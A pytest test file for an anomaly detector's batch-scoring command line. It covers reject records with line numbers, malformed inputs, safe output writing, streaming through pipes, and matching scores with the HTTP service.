"""Streaming batch scoring: the ledger, rejects with line numbers, malformed input, inputs and
outputs of every kind, atomic writes, and the same scores as the HTTP service."""

from __future__ import annotations

import bz2
import csv
import gzip
import io
import json
import os
import select
import signal
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

from detector.batch import scored_chunks
from detector.bundles.bundle import load_bundle
from detector.cli.main import main
from detector.io.sources import open_source
from detector.io.writers import csv_bytes
from tests.conftest import DATA

pytestmark = pytest.mark.slow

EVAL = pd.read_csv(DATA / "eval.csv", dtype=str).drop(columns=["label", "anomaly_kind"])
HEADER = ",".join(EVAL.columns)


def _zipped(text: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("in.csv", text)
    return buffer.getvalue()


def lines_of(frame: pd.DataFrame) -> list[str]:
    return [",".join(row) for row in frame.itertuples(index=False)]


def score(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, dict, str]:
    code = main(["score", *argv, "--json"])
    out, err = capsys.readouterr()
    return code, (json.loads(out) if out.strip() else {}), err


def test_every_row_is_accounted_for_with_its_line_and_raw_text(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    rows = lines_of(EVAL.head(30))
    fields = [r.split(",") for r in rows]
    cpu = list(EVAL.columns).index("cpu_pct")
    oops = [*fields[4][:cpu], "oops", *fields[4][cpu + 1 :]]
    empty = [*fields[5][:cpu], "", *fields[5][cpu + 1 :]]
    body = [
        rows[0] + ",plain",  # line 2, row 1
        rows[1] + ',"two\nlines, with a comma"',  # lines 3-4, row 2
        rows[2],  # line 5, row 3: ragged (no note)
        rows[3] + ",plain",  # line 6, row 4
        ",".join(oops) + ",plain",  # line 7, row 5: not a number
        "",  # line 8: blank, not a row
        ",".join(empty) + ",plain",  # line 9, row 6: empty value
        rows[6] + ",PLAIN",  # line 10, row 7: not UTF-8 (below)
        *(r + ",plain" for r in rows[7:30]),  # lines 11-33, rows 8-30
    ]
    data = ("\n".join([HEADER + ",note", *body]) + "\n").encode()
    data = data.replace(b"PLAIN", "pl\xe4in".encode("latin-1"))
    path = tmp_path / "in.csv"
    path.write_bytes(data)
    output = tmp_path / "out.csv"
    code, ledger, err = score(
        capsys, str(bundle_dir), str(path), "--output", str(output), "--keep-column", "note",
        "--chunk-rows", "4",
    )  # fmt: skip
    assert code == 0, err
    assert ledger["rows_read"] == 30
    assert ledger["rows_scored"] + ledger["rows_rejected"] == 30
    rejects = pd.read_csv(ledger["rejects"], keep_default_na=False)
    assert list(rejects.columns) == ["row", "source", "line", "code", "reason", "raw"]
    found = {int(r.row): (int(r.line), r.code, r.raw) for r in rejects.itertuples()}
    assert found[3] == (5, "ragged", rows[2])
    assert found[5][:2] == (7, "not_a_number") and "oops" in found[5][2]
    assert found[6][:2] == (9, "missing_value")
    assert found[7][:2] == (10, "encoding") and "\\xe4" in found[7][2]
    assert set(found) == {3, 5, 6, 7}
    assert (rejects["source"] == str(path)).all()
    scored = pd.read_csv(output, dtype=str, keep_default_na=False)
    assert len(scored) == 26
    assert scored["note"][1] == "two\nlines, with a comma"
    # The input's own text comes through unchanged.
    assert scored[list(EVAL.columns)].iloc[0].tolist() == EVAL.iloc[0].tolist()


def test_a_short_line_that_is_not_utf8_is_one_reject_and_no_traceback(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    # A short (ragged) line goes to Arrow's invalid-row handler, which decodes its text as
    # UTF-8 before our handler runs: a byte from another encoding raised inside Arrow and
    # printed "Exception ignored ... Traceback" (an unraisable error; pytest fails on it).
    path = tmp_path / "in.csv"
    body = "\n".join([HEADER, *lines_of(EVAL.head(5))]).encode() + b"\ncaf\xe9\n"
    path.write_bytes(body)
    code, ledger, err = score(
        capsys, str(bundle_dir), str(path), "--output", str(tmp_path / "o.csv")
    )
    assert code == 0, err
    assert "Traceback" not in err and "Exception" not in err
    assert (ledger["rows_read"], ledger["rows_scored"], ledger["rows_rejected"]) == (6, 5, 1)
    rejects = pd.read_csv(ledger["rejects"], keep_default_na=False)
    assert rejects["code"].tolist() == ["encoding"] and rejects["raw"][0] == "caf\\xe9"


def test_chunk_size_does_not_change_the_output(capsys, bundle_dir: Path, tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    EVAL.head(500).to_csv(path, index=False)
    outputs = []
    for chunk_rows in ("7", "65536"):
        out = tmp_path / f"out{chunk_rows}.csv"
        code, ledger, _ = score(
            capsys, str(bundle_dir), str(path), "--output", str(out), "--chunk-rows", chunk_rows
        )
        assert code == 0 and ledger["rows_scored"] == 500
        outputs.append(pd.read_csv(out, dtype=str, keep_default_na=False))
    small, large = outputs
    # The model runs in float32, and its kernels sum in a batch-size-dependent order (chunks
    # of up to 16 rows take the numpy path): a score may move in its last float32 digit with
    # the chunk it was scored in; nothing else does. A p-value moves by the score's change
    # times the slope of the calibration curve there, up to ~10x the score's relative change.
    for column, rtol in (("anomaly_score", 1e-6), ("p_value", 1e-5)):
        np.testing.assert_allclose(
            small.pop(column).astype(float), large.pop(column).astype(float), rtol=rtol
        )
    pd.testing.assert_frame_equal(small, large)


def test_a_record_scores_the_same_over_http_and_in_a_file(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    from tests.service.conftest import make_app

    sample = EVAL.sample(200, random_state=1)
    path = tmp_path / "records.csv"
    path.write_text("\n".join([HEADER, *lines_of(sample)]) + "\n")
    # The same records as JSON, each number parsed from the same text.
    records = list(csv.DictReader(io.StringIO(path.read_text())))
    numeric = [c for c in EVAL.columns if c not in ("host", "region")]
    payload = [{k: float(v) if k in numeric else v for k, v in r.items()} for r in records]
    app, _ = make_app(bundle_dir)
    try:
        response = app.test_client().post("/v1/models/tiny/score", json={"records": payload})
    finally:
        app.extensions["anomaly"].dispatcher.stop()
    assert response.status_code == 200
    http = response.json["results"]
    output = tmp_path / "scored.csv"
    code, ledger, _ = score(capsys, str(bundle_dir), str(path), "--output", str(output))
    assert code == 0 and ledger["rows_scored"] == 200 == len(http)
    with output.open() as handle:
        scored = list(csv.DictReader(handle))
    assert [float(r["anomaly_score"]) for r in scored] == [r["anomaly_score"] for r in http]
    assert [float(r["p_value"]) for r in scored] == [r["p_value"] for r in http]
    assert [r["is_anomaly"] == "True" for r in scored] == [r["is_anomaly"] for r in http]
    assert [r["top_feature_1"] for r in scored] == [r["top_features"][0]["column"] for r in http]


def test_files_of_formats_this_tool_does_not_read_are_named_with_how_to_convert_them(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    # A formats helper's exports: "neither CSV text nor JSON Lines nor Parquet" for each, a
    # gzipped Parquet told to "give the file's path" (it was one), a workbook to unpack.
    import gzip
    import tarfile

    import pyarrow as pa
    import pyarrow.feather as feather

    table = EVAL.head(5)
    plain = tmp_path / "plain.csv"
    table.to_csv(plain, index=False)
    table.to_parquet(tmp_path / "p.parquet")
    (tmp_path / "p.parquet.gz").write_bytes(gzip.compress((tmp_path / "p.parquet").read_bytes()))
    feather.write_feather(pa.Table.from_pandas(table), tmp_path / "t.feather")
    with tarfile.open(tmp_path / "t.tar.gz", "w:gz") as archive:
        archive.add(plain, arcname="plain.csv")
    workbook = io.BytesIO()
    with zipfile.ZipFile(workbook, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    (tmp_path / "w.xlsx").write_bytes(workbook.getvalue())
    (tmp_path / "t.csv.bz2").write_bytes(bz2.compress(plain.read_bytes()))
    for name, said in [
        ("p.parquet.gz", "is gzip-compressed Parquet: gunzip it"),
        ("t.feather", "is an Arrow IPC (Feather) file, which this tool does not read; write it"),
        ("t.tar.gz", "is a tar archive: extract it"),
        ("w.xlsx", "is an Excel workbook: save it as CSV UTF-8"),
        ("t.csv.bz2", "is a bzip2 file, not a table's text: unpack it first"),
    ]:
        output = tmp_path / "out.csv"
        code, _, err = score(capsys, str(bundle_dir), str(tmp_path / name), "--output", str(output))
        assert code == 2 and said in err and "Traceback" not in err, (name, err)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty"),
        (HEADER.encode() + b"\n", "has a header but no data rows"),
        (b"host,host," + HEADER.encode() + b"\n1,2\n", "repeats column name(s) ['host']"),
        (HEADER.encode("utf-16") + b"\n", "not UTF-8 text (it looks like UTF-16)"),
        (_zipped(HEADER + "\n"), "is a ZIP file, not a table's text: unpack it first"),
        (bz2.compress(HEADER.encode() + b"\n"), "is a bzip2 file"),
        (b"host,,cpu_pct\n1,2,3\n", "have no name"),
        (
            (HEADER + "\n" + lines_of(EVAL.head(1))[0] + ',"never closed\n').encode()
            + b"x" * (1 << 20),
            "not valid CSV",
        ),
    ],
    ids=[
        "empty",
        "header-only",
        "duplicate-columns",
        "utf-16",
        "zip",
        "bzip2",
        "unnamed-column",
        "bad-quote",
    ],
)
def test_malformed_csv_gives_a_clear_answer(
    capsys, bundle_dir: Path, tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(content)
    output = tmp_path / "out.csv"
    code, ledger, err = score(capsys, str(bundle_dir), str(path), "--output", str(output))
    assert "Traceback" not in err
    if ledger.get("rows_rejected"):  # the broken record is rejected, and said so
        rejects = pd.read_csv(ledger["rejects"])
        assert message in " ".join(rejects["reason"])
        if not ledger["rows_scored"]:  # and a run that scored nothing fails
            assert code == 2 and "every row was rejected" in err and not output.exists()
    else:
        assert code == 2 and message in err
        assert not output.exists()
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_a_run_that_rejects_most_rows_says_how_to_make_it_fail(
    capsys, bundle_dir, tmp_path
) -> None:
    # 99% of an unsorted series file rejected, and the run exited 0 with nothing to say so a
    # pipeline could tell.
    frame = EVAL.head(100).copy()
    frame.loc[:59, "cpu_pct"] = "n/a"
    frame.to_csv(tmp_path / "in.csv", index=False)
    argv = ["score", str(bundle_dir), str(tmp_path / "in.csv"), "--output", str(tmp_path / "o.csv")]
    assert main(argv) == 0
    assert "most rows were rejected (60%)" in capsys.readouterr().out
    assert main([*argv, "--max-reject-rate", "1"]) == 0  # asked for: nothing more to say
    assert "most rows were rejected" not in capsys.readouterr().out


def test_max_reject_rate_fails_without_output(capsys, bundle_dir: Path, tmp_path: Path) -> None:
    frame = EVAL.head(100).copy()
    frame.loc[:9, "cpu_pct"] = "n/a"
    path = tmp_path / "in.csv"
    frame.to_csv(path, index=False)
    output = tmp_path / "out.csv"
    argv = [str(bundle_dir), str(path), "--output", str(output), "--max-reject-rate"]
    code, ledger, err = score(capsys, *argv, "0.05")
    assert code == 2
    assert "10.00% rejected is more than --max-reject-rate 0.05" in err
    assert ledger["ok"] is False and ledger["rows_rejected"] == 10
    assert not output.exists() and Path(ledger["rejects"]).exists()
    code, ledger, _ = score(capsys, *argv, "0.1")
    assert code == 0 and ledger["ok"] is True and output.exists()


def test_a_clean_run_leaves_no_earlier_runs_rejects(capsys, bundle_dir: Path, tmp_path: Path):
    """The rejects of an earlier run to the same output stayed beside a clean run's output,
    and passed for its own."""
    broken = EVAL.head(20).copy()
    broken.loc[3, "cpu_pct"] = "x"
    broken.to_csv(tmp_path / "broken.csv", index=False)
    EVAL.head(20).to_csv(tmp_path / "clean.csv", index=False)
    output = tmp_path / "out.csv"
    for rejects in ([], ["--rejects", str(tmp_path / "r.csv")]):
        target = tmp_path / "r.csv" if rejects else Path(f"{output}.rejects.csv")
        code, ledger, _ = score(capsys, str(bundle_dir), str(tmp_path / "broken.csv"),
                                "--output", str(output), *rejects)  # fmt: skip
        assert code == 0 and ledger["rows_rejected"] == 1 and target.exists()
        code, ledger, _ = score(capsys, str(bundle_dir), str(tmp_path / "clean.csv"),
                                "--output", str(output), *rejects)  # fmt: skip
        assert code == 0 and ledger["rejects"] is None and not target.exists()


def test_the_rejects_file_may_not_be_the_output_or_an_input(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    """--rejects naming the output replaced the scores with the rejects; naming the input
    replaced the user's data with them. Both are refused before any work."""
    frame = EVAL.head(20).copy()
    frame.loc[3, "cpu_pct"] = "x"
    path = tmp_path / "in.csv"
    frame.to_csv(path, index=False)
    before = path.read_bytes()
    output = tmp_path / "out.csv"
    for rejects, what in (
        (output, "is the output file"),
        (tmp_path / "." / "in.csv", "is the input"),
    ):
        argv = [str(bundle_dir), str(path), "--output", str(output), "--rejects", str(rejects)]
        code, _, err = score(capsys, *argv)
        assert code == 2 and what in err and "name another file for --rejects" in err
    assert path.read_bytes() == before and not output.exists()


def test_the_output_may_not_be_an_input(capsys, bundle_dir: Path, tmp_path: Path) -> None:
    """--output naming the input replaced the data with the scored rows: the rejected ones
    were left only in the rejects file, the original nowhere."""
    frame = EVAL.head(20).copy()
    frame.loc[3, "cpu_pct"] = "x"
    path = tmp_path / "in.csv"
    frame.to_csv(path, index=False)
    before = path.read_bytes()
    code, _, err = score(capsys, str(bundle_dir), str(path), "--output", f"{tmp_path}/./in.csv")
    assert code == 2 and "is the input" in err and "name another file for --output" in err
    assert path.read_bytes() == before


def test_a_spark_output_folder_may_not_hold_an_input(bundle_dir: Path, tmp_path: Path) -> None:
    from detector.batch.spark import score_files
    from detector.errors import ConfigError

    (tmp_path / "parts").mkdir()
    EVAL.head(20).to_csv(tmp_path / "parts" / "a.csv", index=False)
    for output in (tmp_path / "parts", tmp_path):  # the folder, and one above it
        with pytest.raises(ConfigError, match=r"holds the input .*a\.csv: writing it replaces"):
            score_files(str(bundle_dir), [str(tmp_path / "parts")], str(output))
    assert (tmp_path / "parts" / "a.csv").exists()


def test_an_output_that_is_no_file_is_refused_and_a_link_written_through(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    """The finished temporary was renamed over whatever the name was: as root, --report
    /dev/full replaced the machine's /dev/full with a report; a link was replaced by a file
    and its target left as it was."""
    EVAL.head(20).to_csv(tmp_path / "in.csv", index=False)
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    code, _, err = score(capsys, str(bundle_dir), str(tmp_path / "in.csv"), "--output", str(fifo))
    assert code == 2 and "it is a named pipe, not a file, and would be replaced" in err
    assert fifo.is_fifo()
    for name in ("report.html", "scored.csv"):
        (tmp_path / f"real-{name}").write_text("old")
        (tmp_path / name).symlink_to(f"real-{name}")
    code, _, _ = score(capsys, str(bundle_dir), str(tmp_path / "in.csv"), "--output",
                       str(tmp_path / "scored.csv"))  # fmt: skip
    assert code == 0 and (tmp_path / "scored.csv").is_symlink()
    assert len(pd.read_csv(tmp_path / "real-scored.csv")) == 20
    from detector.cli.report import write_report

    write_report(tmp_path / "report.html", "<html></html>")
    assert (tmp_path / "report.html").is_symlink()
    assert (tmp_path / "real-report.html").read_text() == "<html></html>"


def test_a_run_that_rejects_every_row_fails_unless_told_it_may(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    """Every row rejected (a number column of text, say) must not pass for a clean run that
    found nothing: exit 2 with the codes and the way out, the rejects written, no output."""
    frame = EVAL.head(20).copy()
    frame["cpu_pct"] = "n/a"
    frame.loc[:4, "mem_pct"] = "high"
    path = tmp_path / "in.csv"
    frame.to_csv(path, index=False)
    output = tmp_path / "out.csv"
    code, ledger, err = score(capsys, str(bundle_dir), str(path), "--output", str(output))
    assert code == 2 and ledger["ok"] is False and ledger["rows_rejected"] == 20
    assert "every row was rejected (" in err and "--max-reject-rate 1" in err
    assert ledger["rejected_by_code"] and sum(ledger["rejected_by_code"].values()) == 20
    assert not output.exists() and len(pd.read_csv(ledger["rejects"])) == 20
    argv = [str(bundle_dir), str(path), "--output", str(output), "--max-reject-rate", "1"]
    code, ledger, _ = score(capsys, *argv)
    assert code == 0 and ledger["ok"] is True and ledger["rows_scored"] == 0
    assert output.exists() and len(pd.read_csv(output)) == 0


def test_directories_globs_gzip_and_parquet(capsys, bundle_dir: Path, tmp_path: Path) -> None:
    parts = tmp_path / "parts"
    parts.mkdir()
    EVAL.iloc[:40].to_csv(parts / "a.csv", index=False)
    with gzip.open(parts / "b.csv.gz", "wt") as handle:
        EVAL.iloc[40:100].to_csv(handle, index=False)
    (parts / "_SUCCESS").write_text("")
    (parts / "shard-empty.csv").write_text("")  # an export's empty shard: no rows, no stop
    (parts / "shard-blank.csv").write_text("\n\n")
    with gzip.open(parts / "shard-empty.csv.gz", "wb"):
        pass  # a gzip of nothing
    output = tmp_path / "out.parquet"
    code, ledger, _ = score(capsys, str(bundle_dir), str(parts), "--output", str(output))
    assert code == 0
    assert [(Path(f["source"]).name, f["rows_read"]) for f in ledger["files"]] == [
        ("a.csv", 40),
        ("b.csv.gz", 60),
    ]
    scored = pd.read_parquet(output)
    assert len(scored) == 100 and scored["cpu_pct"].dtype == np.float64
    assert scored["host"].tolist() == EVAL["host"].iloc[:100].tolist()
    # A glob of Parquet files; an already scored file clashes with the columns scoring adds.
    code, _, err = score(
        capsys, str(bundle_dir), str(output.with_suffix("")) + "*.parquet", "--output",
        str(tmp_path / "again.csv"), "--keep-column", "anomaly_score",
    )  # fmt: skip
    assert code == 2 and "already has column(s) ['anomaly_score'" in err
    # A folder or a pattern of empty files only has nothing to read; one named alone is named.
    for given, said in (
        (parts / "shard-*", "every file"),
        (parts / "shard-empty.csv", "is empty"),
    ):
        code, _, err = score(
            capsys, str(bundle_dir), str(given), "--output", str(tmp_path / "e.csv")
        )
        assert code == 2 and said in err, err
    # Compressed CSV out.
    code, _, _ = score(
        capsys, str(bundle_dir), str(parts / "a.csv"), "--output", str(tmp_path / "o.csv.gz")
    )
    assert code == 0 and len(pd.read_csv(tmp_path / "o.csv.gz")) == 40
    # Its gzip header names the output (FNAME, after the 10-byte header), not the temporary
    # file it was written as, which `gunzip -N` would restore.
    head = (tmp_path / "o.csv.gz").read_bytes()[:64]
    assert head[3] & 0x08 and head[10:].split(b"\0")[0] == b"o.csv"
    # Of a directory's files, the one missing a column is named, and nothing is written.
    EVAL.iloc[100:140].drop(columns=["cpu_pct"]).to_csv(parts / "c.csv", index=False)
    output = tmp_path / "none.csv"
    code, _, err = score(capsys, str(bundle_dir), str(parts), "--output", str(output))
    assert code == 2 and f"{parts / 'c.csv'}: missing column(s) ['cpu_pct']" in err
    assert not output.exists()


def test_a_missing_value_in_a_categorical_parquet_column_is_rejected_not_filled(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    # pandas' categoricals are saved dictionary-encoded; pyarrow's to_numpy of one gave a null
    # the next row's value: a platform helper's row without its host was scored as another
    # host's (25.5, flagged), the plain file's rejected.
    rows = EVAL.iloc[:10].copy()
    rows.loc[3, "host"] = None
    rows.loc[5, "cpu_pct"] = None
    rows.assign(host=rows["host"].astype("category")).astype(
        {"cpu_pct": pd.CategoricalDtype()}
    ).to_parquet(tmp_path / "cat.parquet", index=False)
    rows.to_parquet(tmp_path / "plain.parquet", index=False)
    outcomes = []
    for name in ("cat", "plain"):
        output = tmp_path / f"{name}.csv"
        code, ledger, _ = score(
            capsys, str(bundle_dir), str(tmp_path / f"{name}.parquet"), "--output", str(output)
        )
        assert code == 0 and ledger["rows_rejected"] == 2, ledger
        outcomes.append(pd.read_csv(output)["anomaly_score"].tolist())
    assert outcomes[0] == outcomes[1]


def test_a_folder_is_read_with_its_subfolders(capsys, bundle_dir: Path, tmp_path: Path) -> None:
    """Spark and Hive write partitions as subfolders (date=2026-11-11/part-0.parquet): their
    rows were skipped without a word where the folder held a file of its own, and the folder
    was 'holds no files' where it did not."""
    folder = tmp_path / "exports"
    for day, rows in (("2026-11-11", EVAL.iloc[:30]), ("2026-11-12", EVAL.iloc[30:50])):
        (folder / f"date={day}").mkdir(parents=True)
        rows.to_parquet(folder / f"date={day}" / "part-0.parquet", index=False)
    (folder / "_temporary" / "0").mkdir(parents=True)  # a job's leftovers: not data
    EVAL.iloc[:5].to_csv(folder / "_temporary" / "0" / "part-9.csv", index=False)
    output = str(tmp_path / "o.csv")
    code, ledger, _ = score(capsys, str(bundle_dir), str(folder), "--output", output)
    assert code == 0 and ledger["rows_read"] == 50
    EVAL.iloc[50:60].to_csv(folder / "top.csv", index=False)
    code, ledger, _ = score(capsys, str(bundle_dir), str(folder), "--output", output)
    assert code == 0 and ledger["rows_read"] == 60
    sources = [f["source"] for f in ledger["files"]]
    assert [Path(s).parent.name for s in sources] == [
        "date=2026-11-11",
        "date=2026-11-12",
        "exports",
    ]
    # An output in a subfolder would be read back by the next run.
    inside = folder / "date=2026-11-12" / "scored.csv"
    code, _, err = score(capsys, str(bundle_dir), str(folder), "--output", str(inside))
    assert code == 2 and "would be among the inputs" in err


def test_each_file_is_read_once_however_it_is_named(capsys, bundle_dir: Path, tmp_path: Path):
    """'**' followed links round a loop (122 files read for 2) and into a link to a sibling
    folder; a folder and a file in it read the file twice. Each row counted again."""
    folder = tmp_path / "exports"
    (folder / "date=1").mkdir(parents=True)
    (folder / "links").mkdir()
    EVAL.iloc[:30].to_parquet(folder / "date=1" / "part-0.parquet", index=False)
    EVAL.iloc[30:40].to_csv(folder / "top.csv", index=False)
    (folder / "links" / "up").symlink_to("..")  # a loop
    (folder / "links" / "again").symlink_to("../date=1")
    output = str(tmp_path / "o.csv")
    for inputs, rows in (
        ([f"{folder}/**/*.parquet"], 30),
        ([str(folder), str(folder / "top.csv")], 40),
        ([str(folder / "top.csv"), str(folder / "." / "top.csv")], 10),
    ):
        code, ledger, _ = score(capsys, str(bundle_dir), *inputs, "--output", output)
        assert code == 0 and ledger["rows_read"] == rows, inputs


def test_an_output_the_input_folder_or_glob_takes_in_is_refused(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    # Written into the folder it scored, the output was read back by the next run ("already
    # has column(s) ['anomaly_score'...]"), and the rejects file as an input of other columns.
    folder = tmp_path / "exports"
    folder.mkdir()
    EVAL.head(20).to_csv(folder / "a.csv", index=False)
    for inputs, argv in [
        ([str(folder)], ["--output", str(folder / "scored.csv")]),
        ([str(folder / "*.csv")], ["--output", str(folder / "scored.csv")]),
        ([str(folder)], ["--output", str(tmp_path / "o.csv"), "--rejects", str(folder / "r.csv")]),
    ]:
        code, _, err = score(capsys, str(bundle_dir), *inputs, *argv)
        assert code == 2 and "would be among the inputs" in err and "takes it in" in err
    assert sorted(p.name for p in folder.iterdir()) == ["a.csv"]
    # A name the folder's reading leaves out is fine.
    code, _, _ = score(capsys, str(bundle_dir), str(folder), "--output", str(folder / "_s.csv"))
    assert code == 0


def test_stdin_in_a_pipe_is_quiet(bundle_dir: Path, tmp_path: Path) -> None:
    exe = Path(sys.executable).with_name("anomaly")
    output = tmp_path / "out.csv"
    text = "\n".join([HEADER, *lines_of(EVAL.head(50))]) + "\n"
    done = subprocess.run(
        [str(exe), "score", str(bundle_dir), "-", "--output", str(output)],
        input=gzip.compress(text.encode()),
        capture_output=True,
        env={**os.environ, "TF_CPP_MIN_LOG_LEVEL": "2"},
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode()
    assert "rows read 50 = scored 50 + rejected 0" in done.stdout.decode()
    assert "rows/s" not in done.stderr.decode()  # no progress bar off a terminal
    assert len(pd.read_csv(output)) == 50


def test_output_dash_writes_csv_to_stdout_and_the_rejects_to_stderr(
    bundle_dir: Path, tmp_path: Path
) -> None:
    # It wrote a file named "-" in the working directory, and stdout held the summary.
    exe = Path(sys.executable).with_name("anomaly")
    text = "\n".join([HEADER, *lines_of(EVAL.head(30)), "web-01,us-east,3"]) + "\n"
    done = subprocess.run(
        [str(exe), "score", str(bundle_dir), "-", "--output", "-", "--chunk-rows", "7"],
        input=text.encode(),
        capture_output=True,
        cwd=tmp_path,
        env={**os.environ, "TF_CPP_MIN_LOG_LEVEL": "2"},
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode()
    assert list(tmp_path.iterdir()) == []
    scored = pd.read_csv(io.BytesIO(done.stdout))
    path = tmp_path / "in.csv"
    path.write_text(text)
    assert main(["score", str(bundle_dir), str(path), "--output", str(tmp_path / "o.csv")]) == 0
    pd.testing.assert_frame_equal(scored, pd.read_csv(tmp_path / "o.csv"))
    err = done.stderr.decode()
    rejects = "row,source,line,code,reason,raw\n31,<stdin>,32,ragged,3 fields where"
    assert rejects in err
    assert "rows read 31 = scored 30 + rejected 1" in err
    assert "rejected rows and reasons in <stderr> (ragged 1)" in err


def test_scores_on_stdout_stop_quietly_when_the_reader_leaves(
    bundle_dir: Path, tmp_path: Path
) -> None:
    path = tmp_path / "in.csv"
    pd.concat([EVAL] * 20).to_csv(path, index=False)
    command = [sys.executable, "-m", "detector.cli.main", "score", str(bundle_dir), str(path)]
    with subprocess.Popen(
        [*command, "--output", "-", "--chunk-rows", "500"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        assert process.stdout is not None and process.stderr is not None
        assert process.stdout.readline().startswith(b"host,")  # the first chunk, as it came
        process.stdout.close()
        err = process.stderr.read().decode()
        assert process.wait(timeout=120) == 141, err
    assert "Traceback" not in err


def test_a_write_the_reader_left_halfway_is_not_taken_for_a_whole_one() -> None:
    """A buffered writer over a pipe whose reader left mid-write returns the part it wrote
    rather than raising; with one chunk bigger than the pipe (`--output - | head -2`) the rest
    was lost and the run said it wrote everything, exit 0."""
    from detector.io.writers import TableWriter

    class LeftPipe(io.RawIOBase):
        calls = 0

        def writable(self) -> bool:
            return True

        def write(self, data: Any) -> int:
            self.calls += 1
            if self.calls > 2:  # the header, then part of the rows
                raise BrokenPipeError(32, "Broken pipe")
            return min(len(data), 100)

    writer = TableWriter("-", stream=LeftPipe())  # type: ignore[arg-type]
    with pytest.raises(BrokenPipeError):
        writer.write(pd.concat([EVAL] * 2))


def streaming(bundle_dir: Path, **options: Any) -> subprocess.Popen[bytes]:
    """``anomaly score MODEL - --output -``, its three streams piped."""
    command = [sys.executable, "-m", "detector.cli.main", "score", str(bundle_dir), "-"]
    pipe = subprocess.PIPE
    command += ["--output", "-"]
    return subprocess.Popen(command, stdin=pipe, stdout=pipe, stderr=pipe, **options)


def test_rows_fed_slowly_through_a_pipe_are_scored_as_they_come(
    bundle_dir: Path, tmp_path: Path
) -> None:
    # `tail -f metrics.csv | anomaly score MODEL - --output -` printed nothing until the pipe
    # closed: rows waited for a megabyte-long block to fill.
    rows = lines_of(EVAL.head(12))
    with streaming(bundle_dir, bufsize=0) as process:
        assert process.stdin is not None and process.stdout is not None
        out = process.stdout.fileno()
        got = b""
        for part in ([HEADER, *rows[:5]], rows[5:7], rows[7:]):
            process.stdin.write(("\n".join(part) + "\n").encode())
            # The pipe stays open: each part's lines must come back before more is sent.
            want = got.count(b"\n") + len(part)
            while got.count(b"\n") < want:
                ready, _, _ = select.select([out], [], [], 120)
                assert ready, f"{got.splitlines()} back of {want} lines, the pipe still open"
                got += os.read(out, 1 << 16)
        process.stdin.close()
        assert process.stdout.read() == b""
        assert process.wait(timeout=120) == 0
    path = tmp_path / "in.csv"
    path.write_text("\n".join([HEADER, *rows]) + "\n")
    assert main(["score", str(bundle_dir), str(path), "--output", str(tmp_path / "o.csv")]) == 0
    assert got == (tmp_path / "o.csv").read_bytes()


def test_a_stream_to_stdout_stopped_by_a_signal_does_not_say_nothing_was_written(
    bundle_dir: Path,
) -> None:
    with streaming(bundle_dir) as process:
        assert process.stdin is not None and process.stdout is not None
        assert process.stderr is not None
        process.stdin.write(("\n".join([HEADER, *lines_of(EVAL.head(3))]) + "\n").encode())
        process.stdin.flush()
        for _ in range(4):  # the header and three rows, the pipe still open
            assert process.stdout.readline()
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=120) == 130
        err = process.stderr.read().decode()
    assert "interrupted; stdout holds the rows written so far" in err
    assert "no output was written" not in err


def test_a_failed_run_to_stdout_says_its_rows_are_not_a_whole_run(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    # It said "no output was written" after the rows had gone out.
    path = tmp_path / "in.csv"
    path.write_text("\n".join([HEADER, *lines_of(EVAL.head(4)), "web-01,x", "web-01,y"]) + "\n")
    code = main(["score", str(bundle_dir), str(path), "--output", "-", "--max-reject-rate", "0.1"])
    out, err = capsys.readouterr()
    assert code == 2 and len(out.splitlines()) == 5
    assert "the rows already on stdout are not a whole run: discard them" in err
    assert "no output was written" not in err


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--output", "-", "--rejects", "-"], "would both write to standard output"),
        (["--output", "-", "--engine", "spark"], "cannot go to standard output"),
    ],
)
def test_standard_output_taken_twice_or_by_spark_is_refused(
    capsys, bundle_dir: Path, tmp_path: Path, argv: list[str], message: str
) -> None:
    path = tmp_path / "in.csv"
    EVAL.head(5).to_csv(path, index=False)
    code, _, err = score(capsys, str(bundle_dir), str(path), *argv)
    assert code == 2 and message in err


def test_an_interrupted_run_leaves_nothing_at_the_output(
    capsys, bundle_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "in.csv"
    EVAL.head(200).to_csv(path, index=False)
    real = scored_chunks.score_batch
    calls = []

    def interrupted(*args, **kwargs):  # type: ignore[no-untyped-def]
        calls.append(1)
        if len(calls) == 3:
            raise KeyboardInterrupt
        return real(*args, **kwargs)

    monkeypatch.setattr(scored_chunks, "score_batch", interrupted)
    output = tmp_path / "out.csv"
    code = main(
        ["score", str(bundle_dir), str(path), "--output", str(output), "--chunk-rows", "50"]
    )
    assert code == 130
    assert "no output was written" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]


def test_csv_writer_quotes_only_what_needs_it() -> None:
    table = pa.table(
        {
            "text": ["plain", "a,b", 'say "hi"', "two\nlines", None],
            "number": [1.5, 0.1, None, 1e-7, 3.0],
            "flag": [True, False, None, True, False],
        }
    )
    text = csv_bytes(table).decode()
    assert text.splitlines()[0] == "plain,1.5,True"
